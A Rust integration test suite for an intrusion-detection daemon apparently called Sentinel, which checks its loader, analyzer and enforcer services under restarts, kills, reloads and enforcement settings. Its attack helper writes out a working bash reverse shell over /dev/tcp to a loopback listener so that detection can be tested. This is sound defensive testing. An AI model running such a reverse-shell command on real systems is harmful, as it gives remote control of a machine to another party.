//! The three services of the rpm in a machine that systemd booted: real attacks, restarts, kills, reloads.

use std::{cell::Cell, time::Duration};

use sentinel_tests::{
    nspawn::{Machine, text},
    sentinel::{PATIENCE, nice, within},
};
use serde_json::Value;

const LOG: &str = "/var/log/sentinel/alerts.json";
const LOADER: &str = "sentinel-loader";
const ANALYZER: &str = "sentinel-analyzer";
const ENFORCER: &str = "sentinel-enforcer";
const SERVICES: [&str; 3] = [LOADER, ANALYZER, ENFORCER];

/// Sentinel, installed and started.
struct Services {
    machine: Machine,
    attacks: Cell<u16>,
}

impl Services {
    /// As the package leaves it: it detects.
    fn start() -> Option<Self> {
        let machine = Machine::installed()?;
        machine.told(&["systemctl", "start", "sentinel.target"]);
        Some(Self { machine, attacks: Cell::new(0) })
    }

    /// Both files ask for kills.
    fn start_enforcing() -> Option<Self> {
        let machine = Machine::installed()?;
        ask_for_kills(&machine);
        machine.told(&["systemctl", "start", "sentinel.target"]);
        Some(Self { machine, attacks: Cell::new(0) })
    }

    fn status(&self) -> Value {
        serde_json::from_str(&self.machine.told(&["sentinel", "status", "--json"])).unwrap()
    }

    fn main_pid(&self, service: &str) -> String {
        self.machine.property(service, "MainPID")
    }

    fn alerts(&self) -> Vec<Value> {
        let lines = text(&self.machine.run(&["cat", LOG]).stdout);
        // A line that is being written may be seen in part.
        let (whole, _) = lines.rsplit_once('\n').unwrap_or_default();
        let lines = whole.lines().map(|line| serde_json::from_str(line).unwrap());
        lines.filter(|line: &Value| line["pattern_name"] != "sensor_counters").collect()
    }

    fn alerts_of(&self, rule: &str) -> Vec<Value> {
        self.alerts().into_iter().filter(|alert| alert["pattern_name"] == rule).collect()
    }

    /// A shell connects to somebody else in the machine and waits ten minutes for a command; the
    /// alert that comes of it.
    fn attack(&self) -> Value {
        let number = self.attacks.replace(self.attacks.get() + 1);
        let port = 4000 + number;
        let listener = format!(
            "import socket\n\
             connection = socket.create_server((\"127.0.0.1\", {port})).accept()[0]\n\
             connection.settimeout(600)\n\
             while connection.recv(4096): pass"
        );
        self.machine.start(&format!("listener-{number}"), &["python3", "-c", &listener]);
        let shell = format!(
            "until bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; [ $? != 1 ]; do sleep 0.05; done"
        );
        self.machine.start(&format!("attack-{number}"), &["bash", "-c", &shell]);
        let unit = format!("attack-{number}.service");
        let mut found = None;
        let came = within(PATIENCE, || {
            found = self.alerts().into_iter().find(|alert| alert["unit"] == *unit);
            found.is_some()
        });
        assert!(came, "no alert of {unit}:\n{}", self.journal());
        found.unwrap()
    }

    /// An attack that is found and ended.
    fn attack_ends(&self) {
        let alert = self.attack();
        assert_eq!(alert["action"], "terminated", "{alert}\n{}", self.journal());
        let shell = format!("/proc/{}", alert["pid"]);
        assert!(within(PATIENCE, || !self.machine.has(&shell)), "it lives: {alert}");
    }

    /// All three are there and see each other.
    fn are_well(&self) {
        let mut status = Value::Null;
        let well = within(PATIENCE, || {
            let asked = self.machine.run(&["sentinel", "status", "--json"]);
            status = serde_json::from_slice(&asked.stdout).unwrap_or_default();
            let parts = status["parts"].as_array().cloned().unwrap_or_default();
            let running = parts.iter().filter(|part| part["is_running"] == true).count();
            running == SERVICES.len() && status["is_watching"] == true
        });
        assert!(well, "{status:#}\n{}", self.journal());
    }

    fn enforce(&self, word: &str) -> String {
        self.machine.told(&["sentinel", "enforce", word])
    }

    fn journal(&self) -> String {
        self.machine.told(&["journalctl", "--sync"]);
        let all = ["journalctl", "--no-pager", "--output=short", "--unit=sentinel-*"];
        self.machine.told(&all)
    }
}

/// What an operator does who wants kills.
fn ask_for_kills(machine: &Machine) {
    let change = |file: &str, from: &str, to: &str| {
        let text = machine.read(file);
        assert!(text.contains(from), "{file}: {text}");
        machine.write(file, &text.replace(from, to));
    };
    let (no, yes) = ("\n#grimoire-enforce = false", "\ngrimoire-enforce = true");
    change("/etc/sentinel/analyzer.toml", no, yes);
    change("/etc/sentinel/enforcer.toml", "\nenforce = false", "\nenforce = true");
}

#[test]
fn the_three_run_as_designed_and_an_attack_is_in_every_log() {
    let Some(services) = Services::start() else { return };
    services.are_well();
    let machine = &services.machine;
    for (service, user, capabilities) in [
        (LOADER, "sentinel-loader", "0000000000000000"),
        (ANALYZER, "sentinel", "0000000000000000"),
        (ENFORCER, "sentinel-enforcer", "0000000000000020"),
    ] {
        let status = machine.read(&format!("/proc/{}/status", services.main_pid(service)));
        let value = |name: &str| {
            let line = status.lines().find(|line| line.split(':').next() == Some(name)).unwrap();
            line.split_once(':').unwrap().1.split_whitespace().next().unwrap().to_owned()
        };
        assert_eq!(value("Uid"), machine.told(&["id", "-u", user]).trim_end(), "{service}");
        for set in ["CapPrm", "CapEff"] {
            assert_eq!(value(set), capabilities, "{service} {set}");
        }
        assert_eq!([value("NoNewPrivs"), value("Seccomp")], ["1", "2"], "{service}");
        let stat = machine.read(&format!("/proc/{}/stat", services.main_pid(service)));
        assert_eq!(nice(&stat), -5, "{service}");
    }
    let status = services.status();
    assert_eq!(status["mode"], "shadow mode: detects, never kills");
    for part in status["parts"].as_array().unwrap() {
        let sandbox = part["sandbox"].as_str().unwrap();
        assert!(
            sandbox.starts_with("landlock ") && sandbox.ends_with(", seccomp, no_new_privs"),
            "{part}"
        );
        assert_eq!(part["restarts"], 0, "{part}");
        let service = format!("sentinel-{}", part["name"].as_str().unwrap());
        assert_eq!(part["pid"].to_string(), services.main_pid(&service));
    }

    let alert = services.attack();
    assert_eq!((&alert["action"], &alert["severity"]), (&"logged".into(), &"critical".into()));
    assert!(machine.has(&format!("/proc/{}", alert["pid"])), "shadow mode kills nobody");
    let words = "CRITICAL reverse_shell T1059";
    let journal = || machine.told(&["journalctl", "--no-pager", "--identifier=sentinel"]);
    assert!(within(PATIENCE, || journal().contains(words)), "{}", journal());
    let rsyslog = || machine.read("/var/log/auth.log");
    assert!(within(PATIENCE, || rsyslog().contains(words)), "{}", rsyslog());
    assert_eq!(
        machine.told(&["stat", "--format=%a %U:%G", LOG]).trim_end(),
        "640 sentinel:sentinel"
    );
    let last = services.status()["last_alerts"][0].clone();
    assert_eq!((&last["pattern_name"], &last["pid"]), (&"reverse_shell".into(), &alert["pid"]));

    machine.told(&["systemctl", "stop", "sentinel.target"]);
    for service in SERVICES {
        // The target's end does not wait for its parts'.
        let ended = || machine.property(service, "ActiveState") == "inactive";
        assert!(within(PATIENCE, ended), "{service}: {}", services.journal());
        assert_eq!(machine.property(service, "Result"), "success", "{}", services.journal());
    }
    assert!(services.alerts_of("sensor_gone").is_empty(), "an orderly end is no alarm");
    assert!(within(PATIENCE, || !machine.has("/run/sentinel/control.sock")));
}

#[test]
fn killing_takes_both_files_and_no_switch_against_it() {
    let Some(services) = Services::start() else { return };
    let machine = &services.machine;
    let refused = machine.run(&["sentinel", "enforce", "on"]);
    assert_eq!(refused.status.code(), Some(1));
    let said = text(&refused.stdout) + &text(&refused.stderr);
    assert!(said.contains("/etc/sentinel/enforcer.toml"), "{said}");

    ask_for_kills(machine);
    machine.told(&["systemctl", "reload", ANALYZER]);
    machine.told(&["systemctl", "restart", ENFORCER]);
    machine.wait_for(ANALYZER, "grimoire-enforce changed");
    services.are_well();
    services.attack_ends();

    services.enforce("off");
    let alert = services.attack();
    assert_eq!(alert["action"], "kill_refused:kill_switch");
    assert!(machine.has(&format!("/proc/{}", alert["pid"])));
    let switched_off = "shadow mode: enforcement is switched off";
    assert_eq!(services.status()["mode"], switched_off);
    machine.told(&["systemctl", "restart", ENFORCER]);
    services.are_well();
    assert_eq!(services.status()["mode"], switched_off, "it survives a restart");
    assert_eq!(services.attack()["action"], "kill_refused:kill_switch");

    services.enforce("on");
    services.attack_ends();
    let stranger = machine.run_as("daemon", &[], &["sentinel", "enforce", "off"]);
    assert_eq!(stranger.status.code(), Some(1));
    let administrator =
        machine.run_as("daemon", &["sentinel-admin"], &["sentinel", "enforce", "off"]);
    assert!(administrator.status.success(), "{}", text(&administrator.stderr));
    assert_eq!(services.attack()["action"], "kill_refused:kill_switch");
}

#[test]
fn each_may_be_restarted_or_killed_and_the_others_stay_and_work() {
    let Some(services) = Services::start_enforcing() else { return };
    let machine = &services.machine;
    services.are_well();
    let ways: [&[&str]; 2] = [&["restart"], &["kill", "--signal=KILL"]];
    for (count, way) in ways.into_iter().enumerate() {
        for service in SERVICES {
            let before = SERVICES.map(|service| services.main_pid(service));
            machine.told(&[&["systemctl"], way, &[service]].concat());
            let again = || {
                let now = services.main_pid(service);
                now != "0" && !before.contains(&now)
            };
            assert!(within(PATIENCE, again), "{way:?} {service}: {}", services.journal());
            services.are_well();
            services.attack_ends();
            for (other, pid) in SERVICES.iter().zip(&before).filter(|(name, _)| **name != service) {
                assert_eq!(services.main_pid(other), *pid, "{other}: {}", services.journal());
            }
            let changes = if service == LOADER { count + 1 } else { count };
            if service == LOADER {
                assert_eq!(services.alerts_of("sensor_gone").len(), changes);
            }
        }
    }
    // Once for each loader and each analyzer that was missed; a loader's after its end was told.
    let gaps = services.alerts_of("sensor_gap");
    assert_eq!(gaps.len(), 4, "{gaps:#?}");
    let message = |alert: &Value| alert["message"].as_str().unwrap().to_owned();
    assert!(!gaps.iter().any(|gap| message(gap).contains(" for 0.000 s")), "{gaps:#?}");
    let is_of_loader = |alert: &Value| message(alert).starts_with("no sensor ran");
    let mut story = services.alerts();
    story.retain(|alert| alert["pattern_name"] == "sensor_gone" || is_of_loader(alert));
    let story: Vec<_> = story.iter().map(|alert| &alert["pattern_name"]).collect();
    assert_eq!(story, ["sensor_gone", "sensor_gap", "sensor_gone", "sensor_gap"]);
    let restarts = |part: &Value| part["restarts"].as_u64().unwrap();
    let status = services.status();
    assert!(status["parts"].as_array().unwrap().iter().all(|part| restarts(part) == 1), "{status}");
    machine.told(&["systemctl", "restart", "sentinel.target"]);
    services.are_well();
    services.attack_ends();
}

#[test]
fn one_that_hangs_is_started_again_by_the_watchdog() {
    let Some(machine) = Machine::installed() else { return };
    for service in SERVICES {
        machine.drop_in(&format!("{service}.service"), "[Service]\nWatchdogSec=2s\nRestartSec=0\n");
    }
    ask_for_kills(&machine);
    machine.told(&["systemctl", "start", "sentinel.target"]);
    let services = Services { machine, attacks: Cell::new(0) };
    services.are_well();
    for service in SERVICES {
        services.machine.told(&["systemctl", "kill", "--signal=STOP", service]);
        let again = || services.machine.property(service, "NRestarts") == "1";
        assert!(within(PATIENCE, again), "{service}: {}", services.journal());
        services.are_well();
        services.attack_ends();
    }
    std::thread::sleep(Duration::from_secs(3));
    for service in SERVICES {
        assert_eq!(services.machine.property(service, "NRestarts"), "1", "idle ones live");
    }
}

#[test]
fn a_reload_opens_logs_anew_and_keeps_what_was_when_the_file_is_broken() {
    let Some(services) = Services::start() else { return };
    let machine = &services.machine;
    services.are_well();
    services.attack();
    machine.told(&["logrotate", "--force", "/etc/logrotate.d/sentinel"]);
    machine.wait_for(ANALYZER, "logs opened anew");
    let first = services.attack();
    assert_eq!(services.alerts().len(), 1, "only what came after the rotation: {first}");
    assert!(machine.read(&format!("{LOG}.1")).contains("attack-0.service"));

    let file = "/etc/sentinel/analyzer.toml";
    let sound = machine.read(file);
    machine.write(file, &format!("{sound}\nfrobnicate = 1\n"));
    let check = machine.run(&["sentinel", "config", "check"]);
    assert_eq!(check.status.code(), Some(1));
    let line = format!("{file}:{}", sound.lines().count() + 2);
    assert!(text(&check.stdout).contains(&line), "{}", text(&check.stdout));
    machine.told(&["systemctl", "reload", ANALYZER]);
    machine.wait_for(ANALYZER, "frobnicate");
    machine.wait_for(ANALYZER, &line);
    machine.wait_for(ANALYZER, "what was configured before holds on");
    services.attack();

    machine.write(file, &format!("{sound}\ngrimoire-debug = true\njson-log-path = \"/x\"\n"));
    machine.told(&["systemctl", "reload", ANALYZER]);
    machine.wait_for(
        ANALYZER,
        "grimoire-debug changed; json-log-path change with a restart of the service",
    );
    services.attack();
    machine.wait_for(ANALYZER, "grimoire: ");

    // Rules of a file, and which of the built-in ones are off, change without a restart.
    let rule = "/etc/sentinel/rules.d/own.toml";
    machine.write(
        rule,
        "[[rule]]\nname = \"own\"\nseverity = \"info\"\nmitre = \"T1059\"\ndescription = \"d\"\n\
         false_positives = \"f\"\n[[rule.step]]\nevent = \"mkdir\"\n\
         where = { path = { suffix = \"/own-rule\" } }\n",
    );
    machine.write(file, &format!("{sound}\ndisable-rules = [\"packet_socket\"]\n"));
    assert!(machine.told(&["sentinel", "rules", "list"]).contains("off packet_socket"));
    let told = machine.told(&["sentinel", "rules", "reload"]);
    assert!(told.contains("1 new, 0 changed, 1 gone"), "{told}");
    let made = within(PATIENCE, || {
        machine.told(&["sh", "-c", "mkdir /tmp/own-rule && rmdir /tmp/own-rule"]);
        !services.alerts_of("own").is_empty()
    });
    assert!(made, "{}", services.journal());
    let rules = services.status()["rules"].to_string();
    assert!(rules.contains("\"own\"") && !rules.contains("packet_socket"), "{rules}");
    machine.write(rule, "[[rule]]\nname = 1\n");
    machine.told(&["systemctl", "reload", ANALYZER]);
    machine.wait_for(ANALYZER, &format!("{rule}:1:1: the rule has no [[rule.step]]"));
    machine.write(rule, "");
    assert!(text(&machine.run(&["sentinel", "config", "check"]).stdout).contains("rules.d"));

    // A directory that is made anew is another one, which the sandbox does not know.
    machine.told(&["mv", "/var/log/sentinel", "/var/log/old"]);
    machine.told(&["install", "-d", "-o", "sentinel", "-g", "sentinel", "/var/log/sentinel"]);
    machine.told(&["systemctl", "reload", ANALYZER]);
    machine.wait_for(ANALYZER, "its directory was removed or moved away");
}

#[test]
fn an_exceeded_budget_and_a_missing_enforcer_are_told() {
    let Some(machine) = Machine::installed() else { return };
    ask_for_kills(&machine);
    let file = "/etc/sentinel/enforcer.toml";
    let text = machine.read(file).replace("kills-per-minute = 10", "kills-per-minute = 1");
    machine.write(file, &text);
    machine.told(&["systemctl", "start", "sentinel.target"]);
    let services = Services { machine, attacks: Cell::new(0) };
    services.are_well();
    services.attack_ends();
    let breakers = || services.alerts_of("enforcement_breaker").len();
    for restart in 1..=3 {
        assert_eq!(services.attack()["action"], "kill_refused:budget");
        assert!(within(PATIENCE, || breakers() == restart), "{} of {restart}", breakers());
        let mode = services.status()["mode"].clone();
        assert!(mode.as_str().unwrap().contains("budget was exceeded"), "{mode}");
        assert!(services.enforce("status").contains("stopped itself"));
        // Neither an orderly end nor another one makes its budget whole.
        match restart {
            1 => services.machine.told(&["systemctl", "restart", ENFORCER]),
            _ => services.machine.told(&["systemctl", "kill", "--signal=KILL", ENFORCER]),
        };
        assert!(within(PATIENCE, || breakers() > restart), "it is told again");
    }
    services.enforce("on");
    services.are_well();
    services.attack_ends();
    let units =
        ["sentinel-enforcer.service", "sentinel-enforcer.socket", "sentinel-enforce.socket"];
    services.machine.told(&[&["systemctl", "stop"], &units[..]].concat());
    let enforcer = || {
        let status = services.status();
        let parts = status["parts"].as_array().unwrap();
        parts.iter().find(|part| part["name"] == "enforcer").unwrap()["is_running"].clone()
    };
    assert!(within(PATIENCE, || enforcer() == false), "{:#}", services.status());
    assert_eq!(services.attack()["action"], "kill_refused:no_enforcer");
}

#[test]
fn a_loader_that_cannot_start_holds_up_nothing_and_is_told() {
    let Some(machine) = Machine::installed() else { return };
    let file = "/etc/sentinel/loader.toml";
    let sound = machine.read(file);
    machine.write(file, "frobnicate = 1");
    // What waits for the loader fails with it; the target and the analyzer do not.
    machine.told(&["systemctl", "start", "sentinel.target"]);
    let services = Services { machine, attacks: Cell::new(0) };
    let state = || services.machine.property(ANALYZER, "StatusText");
    assert!(within(PATIENCE, || state().contains("nothing is watched")), "{}", state());
    assert_eq!(services.machine.property(ANALYZER, "ActiveState"), "active");
    assert_eq!(services.status()["is_watching"], false);
    services.machine.wait_for(LOADER, "/etc/sentinel/loader.toml:1: unknown key frobnicate");
    services.machine.write(file, &sound);
    services.are_well();
    services.attack();
    assert!(state().contains("watches"), "{}", state());
}
